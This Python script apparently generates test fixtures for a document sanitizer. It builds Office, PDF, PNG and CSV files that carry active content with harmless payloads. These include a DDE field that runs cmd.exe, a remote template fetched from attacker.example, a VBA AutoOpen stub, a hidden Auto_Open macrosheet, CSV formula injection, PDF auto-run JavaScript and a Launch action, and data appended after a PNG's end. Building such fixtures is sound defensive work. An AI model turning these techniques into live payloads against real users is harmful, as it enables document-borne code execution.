#!/usr/bin/env python3
"""Regenerates the hostile sample files in examples/ (committed; `make run` sanitizes them).

Each sample carries the kinds of active content sanso must remove, with harmless payloads.
"""
import os
import struct
import zipfile
import zlib

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "examples")
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'


def rels(items):
    external = ' TargetMode="External"'
    body = "".join(
        f'<Relationship Id="{i}" Type="{t}" Target="{g}"{external if ext else ""}/>'
        for i, t, g, ext in items)
    return f'{HEAD}<Relationships xmlns="{PKG_REL}">{body}</Relationships>'


def types(overrides, defaults=()):
    d = "".join(f'<Default Extension="{e}" ContentType="{c}"/>' for e, c in defaults)
    o = "".join(f'<Override PartName="{p}" ContentType="{c}"/>' for p, c in overrides)
    return (f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Default Extension="xml" ContentType="application/xml"/>{d}{o}</Types>')


CORE = (f'{HEAD}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>会議資料</dc:title>'
        '<dc:creator>山田太郎</dc:creator><cp:lastModifiedBy>佐藤花子</cp:lastModifiedBy></cp:coreProperties>')
CORE_TYPE = ("/docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml")
CORE_REL = ("rId9", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
            "docProps/core.xml", False)


def write_zip(name, parts):
    with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_DEFLATED) as z:
        for part, data in parts:
            z.writestr(part, data)


def run(text):
    return f'<w:r><w:t xml:space="preserve">{text}</w:t></w:r>'


def field(code, result):
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            + "".join(f'<w:r><w:instrText xml:space="preserve">{c}</w:instrText></w:r>' for c in code)
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + run(result)
            + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def docm():
    title = run("令和8年度 情報セキュリティ委員会 議事録")
    dde = field([" DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '], "（更新してください）")
    body = (f'<w:p>{title}</w:p><w:p>{dde}</w:p>'
            f'<w:p><w:hyperlink r:id="rIdWeb">{run("市ホームページ")}</w:hyperlink></w:p>'
            f'<w:p><w:hyperlink r:id="rIdFile">{run("共有フォルダの資料")}</w:hyperlink></w:p>')
    document = (f'{HEAD}<w:document xmlns:w="{W}" xmlns:r="{REL[:-1]}"><w:body>{body}<w:sectPr/></w:body></w:document>')
    settings = f'{HEAD}<w:settings xmlns:w="{W}" xmlns:r="{REL[:-1]}"><w:attachedTemplate r:id="rIdT"/></w:settings>'
    write_zip("議事録_マクロ付き.docm", [
        ("[Content_Types].xml", types([
            ("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
            ("/word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"),
            ("/word/vbaProject.bin", "application/vnd.ms-office.vbaProject"), CORE_TYPE])),
        ("_rels/.rels", rels([("rId1", REL + "officeDocument", "word/document.xml", False), CORE_REL])),
        ("docProps/core.xml", CORE),
        ("word/document.xml", document),
        ("word/settings.xml", settings),
        ("word/_rels/settings.xml.rels", rels([("rIdT", REL + "attachedTemplate", "http://attacker.example/t.dotm", True)])),
        ("word/_rels/document.xml.rels", rels([
            ("rIdS", REL + "settings", "settings.xml", False),
            ("rIdV", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
            ("rIdWeb", REL + "hyperlink", "https://www.city.munakata.lg.jp/", True),
            ("rIdFile", REL + "hyperlink", "file://///fileserver/share/run.exe", True)])),
        ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 Sub AutoOpen(): Shell \"calc\": End Sub"),
    ])


def xlsm():
    s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    workbook = (f'{HEAD}<workbook xmlns="{s}" xmlns:r="{REL[:-1]}"><sheets>'
                '<sheet name="予算" sheetId="1" r:id="rId1"/>'
                '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>'
                '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></definedNames></workbook>')
    sheet = (f'{HEAD}<worksheet xmlns="{s}"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>項目</t></is></c><c r="B1" t="inlineStr"><is><t>金額</t></is></c></row>'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>研修費</t></is></c><c r="B2"><v>120000</v></c></row>'
             '<row r="3"><c r="A3" t="inlineStr"><is><t>合計</t></is></c><c r="B3"><f>SUM(B2:B2)</f><v>120000</v></c>'
             '<c r="C3"><f>cmd|\' /c calc\'!A0</f><v>0</v></c></row></sheetData></worksheet>')
    macro = f'{HEAD}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>'
    write_zip("予算_自動実行.xlsm", [
        ("[Content_Types].xml", types([
            ("/xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            ("/xl/worksheets/sheet1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"),
            ("/xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml"), CORE_TYPE])),
        ("_rels/.rels", rels([("rId1", REL + "officeDocument", "xl/workbook.xml", False), CORE_REL])),
        ("docProps/core.xml", CORE),
        ("xl/workbook.xml", workbook),
        ("xl/_rels/workbook.xml.rels", rels([
            ("rId1", REL + "worksheet", "worksheets/sheet1.xml", False),
            ("rId2", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "macrosheets/sheet1.xml", False)])),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/macrosheets/sheet1.xml", macro),
    ])


def pdf():
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(a) 5 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 6 0 R >> >> /AA << /O 5 0 R >> /Annots [7 0 R] >>",
        None,
        b"<< /S /JavaScript /JS (app.alert\\('pwned'\\)) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /Launch /F (cmd.exe) >> >>",
    ]
    content = b"BT /F1 18 Tf 72 760 Td (Munakata City security report) Tj ET"
    objects[3] = b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
    out = b"%PDF-1.7\n"
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    with open(os.path.join(OUT, "報告書_JavaScript.pdf"), "wb") as f:
        f.write(out)


def png():
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))
    width, height = 64, 32
    raw = b"".join(b"\0" + b"".join(bytes((x * 4 % 256, y * 8 % 256, 160)) for x in range(width))
                   for y in range(height))
    data = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"tEXt", b"Author\0Yamada Taro") + chunk(b"IDAT", zlib.compress(raw))
            + chunk(b"IEND", b"") + b"PK\x03\x04 hidden payload after IEND")
    with open(os.path.join(OUT, "写真_メタデータ付き.png"), "wb") as f:
        f.write(data)


def csv():
    text = "氏名,所属,備考\r\n宗像太郎,情報政策課,=cmd|' /c calc'!A0\r\n宗像花子,総務課,@SUM(1+1)\r\n"
    with open(os.path.join(OUT, "名簿_数式注入.csv"), "wb") as f:
        f.write(text.encode("cp932"))


if __name__ == "__main__":
    os.makedirs(OUT, exist_ok=True)
    docm()
    xlsm()
    pdf()
    png()
    csv()
